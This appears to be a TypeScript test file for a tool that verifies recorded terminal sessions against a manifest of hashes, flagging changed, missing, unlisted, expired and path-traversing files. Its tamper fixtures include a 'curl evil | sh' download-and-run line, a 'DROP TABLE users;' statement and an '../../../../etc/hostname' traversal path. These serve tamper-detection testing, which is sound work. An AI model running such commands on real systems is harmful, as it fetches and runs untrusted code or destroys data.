import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { verifySessions } from '../src/search/verify.js';
import { tempDataFolder, writeSession } from './support/trail-fixture.js';

const events: Array<[number, 'o', string]> = [[1, 'o', 'hello\r\n']];

describe('verifySessions', () => {
  let data: ReturnType<typeof tempDataFolder>;
  beforeEach(() => (data = tempDataFolder()));
  afterEach(() => data.cleanup());

  it('passes sessions whose files all match the manifest, ignoring the search index', async () => {
    writeSession({ dataFolder: data.dir, channels: [{ id: 0, events }], files: { 'notes.txt': 'hi' }, start: new Date('2025-03-01T09:00:00Z') });
    const s = writeSession({ dataFolder: data.dir, channels: [{ id: 0, events }], start: new Date('2025-03-01T10:00:00Z') });
    mkdirSync(path.join(s.dir, 'index'));
    writeFileSync(path.join(s.dir, 'index', 'meta.json'), '{}');
    const res = await verifySessions({ dataFolder: data.dir });
    expect(res.ok).toBe(true);
    expect(res.sessions.map((x) => [x.checked, x.findings])).toEqual([
      [3, []],
      [2, []],
    ]);
  });

  it('names a changed file, a missing file and a file the manifest does not list', async () => {
    // GIVEN an intact session and a tampered one
    const good = writeSession({ dataFolder: data.dir, channels: [{ id: 0, events }] });
    const bad = writeSession({ dataFolder: data.dir, channels: [{ id: 0, events }], files: { 'dump.sql': 'DROP TABLE users;' } });
    writeFileSync(path.join(bad.dir, 'files', '1-dump.sql'), 'select 1;');
    rmSync(path.join(bad.dir, 'channels.jsonl.gz'));
    writeFileSync(path.join(bad.dir, 'planted.sh'), 'curl evil | sh');
    // WHEN verifying all
    const res = await verifySessions({ dataFolder: data.dir });
    // THEN the result fails and names each file of the tampered session
    expect(res.ok).toBe(false);
    const byId = new Map(res.sessions.map((x) => [x.id, x]));
    expect(byId.get(good.id)!.ok).toBe(true);
    expect(byId.get(bad.id)!.findings).toEqual([
      { path: 'channels.jsonl.gz', kind: 'missing', detail: 'file missing' },
      { path: 'files/1-dump.sql', kind: 'changed', detail: expect.stringMatching(/^sha256 [0-9a-f]{64}, manifest says [0-9a-f]{64}$/) },
      { path: 'planted.sh', kind: 'unlisted', detail: 'not in the manifest' },
    ]);
    // AND verifying only the good one (by prefix) passes
    expect((await verifySessions({ dataFolder: data.dir, session: good.id.slice(0, 6) })).ok).toBe(true);
  });

  it('expects transferred files that retention removed to be gone, but still checks the recording', async () => {
    const s = writeSession({ dataFolder: data.dir, channels: [{ id: 0, events }], files: { 'a.bin': 'x' } });
    rmSync(path.join(s.dir, 'files'), { recursive: true });
    const manifest = { ...s.manifest, filesExpired: '2025-09-01T00:00:00.000Z' };
    writeFileSync(path.join(s.dir, 'manifest.json'), JSON.stringify(manifest));
    let res = await verifySessions({ dataFolder: data.dir });
    expect(res.ok).toBe(true);
    expect(res.sessions[0]!.findings).toEqual([{ path: 'files/1-a.bin', kind: 'expired', detail: 'removed by retention at 2025-09-01T00:00:00.000Z' }]);
    writeFileSync(path.join(s.dir, 'ch-0.cast.gz'), 'changed');
    res = await verifySessions({ dataFolder: data.dir });
    expect(res.ok).toBe(false);
  });

  it('fails on a session directory without a readable manifest, and on a manifest naming files outside the session', async () => {
    const s = writeSession({ dataFolder: data.dir, channels: [{ id: 0, events }] });
    writeFileSync(path.join(s.dir, 'manifest.json'), JSON.stringify({ ...s.manifest, files: [{ path: '../../../../etc/hostname', size: 1, sha256: 'ab' }] }));
    const orphan = path.join(data.dir, '2025', '03', '01', 'lost');
    mkdirSync(orphan);
    const res = await verifySessions({ dataFolder: data.dir });
    expect(res.ok).toBe(false);
    expect(res.problems).toEqual([{ session: 'lost', path: orphan, message: expect.stringMatching(/no manifest.json/) }]);
    expect(res.sessions[0]!.findings.map((f) => f.kind)).toEqual(['invalid-path', 'unlisted', 'unlisted']);
  });
});
